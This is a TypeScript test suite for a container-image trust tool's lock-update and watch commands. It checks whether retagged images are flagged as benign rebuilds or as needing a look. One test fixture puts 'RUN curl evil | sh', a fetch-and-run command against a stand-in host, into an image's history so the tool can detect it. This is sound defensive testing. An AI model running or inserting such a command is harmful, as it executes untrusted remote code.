import assert from 'node:assert/strict';
import { generateKeyPairSync, type KeyObject } from 'node:crypto';
import { rm } from 'node:fs/promises';
import { join } from 'node:path';
import * as suite from 'node:test';
import type { ImageMove } from '../../src/core/trust/image-lock.ts';
import type { LockReport } from '../../src/core/trust/lock-report.ts';
import { runCli, type CliResult } from '../cli/run-cli.ts';
import { labTest } from './kit/availability.ts';
import { LockLab, lockedEntry } from './kit/lock-project.ts';
import { pushImage, pushIndex, pushSignature, type ImageParts } from './kit/push-image.ts';
import { registrySkip, startRegistry } from './kit/registry.ts';

let lab: LockLab;
suite.before(async () => {
  if (registrySkip() === false) lab = await LockLab.start();
});
suite.after(async () => {
  if (registrySkip() === false) await lab.stop();
});

const base: ImageParts = {
  layers: ['base', 'app 1'],
  history: ['ADD base /', 'COPY app /'],
  labels: { 'org.opencontainers.image.version': '1.0' },
};

interface KeyPair {
  privateKey: KeyObject;
  publicKey: KeyObject;
}

function keyPair(): KeyPair {
  return generateKeyPairSync('ec', { namedCurve: 'P-256' });
}

function publicText({ publicKey }: KeyPair): string {
  return publicKey.export({ type: 'spki', format: 'pem' }).toString();
}

suite.describe('trust lock --update', { skip: registrySkip() }, () => {
  /** Locks a tag, pushes something else under it, and returns what an update says of it. */
  async function moved(
    name: string,
    after: ImageParts,
    signers: readonly KeyPair[] = [],
  ): Promise<ImageMove & { code: number | null }> {
    const [first, second = first] = signers;
    const place = lab.repository(`moved/${name}`);
    const before = await pushImage(place, base, '1');
    const it = await lab.project({
      Dockerfile: `FROM ${lab.registry.name}/moved/${name}:1\n`,
      ...(first && { 'signer.pub': publicText(first) }),
    });
    const options = first ? ['--key', 'signer.pub', '--without-log'] : [];
    if (first) await pushSignature(place, before, first.privateKey);
    const paths = ['.', ...options];
    assert.equal((await it.run(...paths)).code, 0);
    const signature = lockedEntry(await it.lock(), `moved/${name}`).signatures[0];
    assert.equal(signature?.verdict, first ? 'trusted' : 'unsigned');
    const now = await pushImage(place, after, '1');
    if (second) await pushSignature(place, now, second.privateKey);
    const { moves, code } = await it.report('--update', ...paths);
    assert.equal(lockedEntry(await it.lock(), `moved/${name}`).digest, now.digest);
    const [move] = moves;
    assert.ok(move !== undefined);
    assert.deepEqual([move.from, move.to], [before.digest, now.digest]);
    return { ...move, code };
  }

  function against({ evidence }: ImageMove): readonly string[] {
    return evidence.filter(({ speaks }) => speaks === 'against').map(({ what }) => what);
  }

  const rebuilt: ImageParts = { ...base, layers: ['base', 'app 2'], created: '2026-02-01T00:00:00Z' };

  labTest('says what moved, and that it needs a look', async () => {
    const cases: readonly (readonly [name: string, parts: ImageParts, what: readonly string[]])[] = [
      ['unsigned', rebuilt, ['signer']],
      [
        'version',
        { ...rebuilt, labels: { 'org.opencontainers.image.version': '1.1' } },
        ['version', 'signer'],
      ],
      ['layers', { ...rebuilt, layers: ['other', 'app 2'] }, ['layers', 'signer']],
      ['history', { ...rebuilt, history: ['ADD base /', 'RUN curl evil | sh'] }, ['history', 'signer']],
      ['settings', { ...rebuilt, settings: { Cmd: ['/evil'] } }, ['settings', 'signer']],
      ['older', { ...rebuilt, created: '2025-01-01T00:00:00Z' }, ['created', 'signer']],
      ['platform', { ...rebuilt, platform: 'linux/arm64' }, ['platforms', 'platforms', 'signer']],
    ];
    for (const [name, parts, what] of cases) {
      const move = await moved(name, parts);
      assert.deepEqual([move.verdict, move.code, against(move)], ['needs a look', 1, what], name);
    }
  });

  labTest('the same content with other dates is benign', async () => {
    const move = await moved('dates', { ...base, created: '2026-02-01T00:00:00Z' });
    assert.deepEqual([move.verdict, move.code], ['benign rebuild', 0]);
  });

  labTest('a rebuild by the same trusted signer is benign, one by another is not', async () => {
    const [own, other] = [keyPair(), keyPair()];
    const same = await moved('signed', rebuilt, [own]);
    assert.deepEqual([same.verdict, same.code], ['benign rebuild', 0], JSON.stringify(same));
    assert.ok(same.evidence.some(({ what, speaks }) => what === 'signer' && speaks === 'for'));
    const stolen = await moved('resigned', rebuilt, [own, other]);
    assert.deepEqual([stolen.verdict, stolen.code, against(stolen)], ['needs a look', 1, ['signer']]);
    const changed = await moved('signed-steps', { ...rebuilt, history: ['ADD base /', 'RUN x'] }, [own]);
    assert.deepEqual([changed.verdict, against(changed)], ['needs a look', ['history']]);
  });

  labTest('provenance that is gone needs a look', async () => {
    await pushIndex(lab.repository('moved/provenance'), '1', [base], { provenance: true });
    const it = await lab.project({ Dockerfile: `FROM ${lab.registry.name}/moved/provenance:1\n` });
    assert.equal((await it.run()).code, 0);
    await pushIndex(lab.repository('moved/provenance'), '1', [base]);
    const { moves, code } = await it.report('--update');
    assert.equal(code, 1);
    assert.deepEqual(moves.map(against), [['attestations']]);
  });

  labTest('a registry that is gone leaves the old entry with its time', async () => {
    const own = await startRegistry(join(lab.folder, 'gone'));
    await pushImage(`http://${own.name}/v2/team/app`, base, '1');
    const it = await lab.project({ Dockerfile: `FROM ${own.name}/team/app:1\n` });
    assert.equal((await it.run()).code, 0);
    const text = await it.read('ironhull.lock');
    await own.stop();
    const { code, drift } = await it.report('--update');
    assert.deepEqual([code, drift.map(({ isUnknown }) => isUnknown)], [3, [true]]);
    assert.equal(await it.read('ironhull.lock'), text);
    assert.equal((await it.run('--check', '--registry')).code, 3);
    assert.equal((await it.run('--check')).code, 0);
    await rm(join(it.path, 'ironhull.lock'));
    assert.equal((await it.run()).code, 3);
    const [entry] = (await it.lock()).images;
    assert.ok(entry !== undefined && 'unresolved' in entry);
    assert.equal((await it.run('--check')).code, 3);
  });

  labTest('trust watch finds what moved, and writes nothing', async () => {
    const own = await startRegistry(join(lab.folder, 'watched'));
    const place = `http://${own.name}/v2/team/app`;
    await pushImage(place, base, '1');
    const it = await lab.project({ Dockerfile: `FROM ${own.name}/team/app:1\n` });
    assert.equal((await it.run()).code, 0);
    const text = await it.read('ironhull.lock');
    const watch = (): Promise<CliResult> =>
      runCli(['trust', 'watch', '--lock', 'ironhull.lock', '--format', 'json'], { cwd: it.path });
    assert.equal((await watch()).code, 0);
    await pushImage(place, { ...base, created: '2026-02-01T00:00:00Z' }, '1');
    assert.equal((await watch()).code, 0, 'the same content is benign');
    await pushImage(place, { ...base, layers: ['base', 'evil'] }, '1');
    const { code, stdout } = await watch();
    const { moves } = JSON.parse(stdout) as LockReport;
    assert.deepEqual([code, moves.map(({ verdict }) => verdict)], [1, ['needs a look']]);
    await own.stop();
    assert.equal((await watch()).code, 3);
    assert.equal(await it.read('ironhull.lock'), text);
  });
});
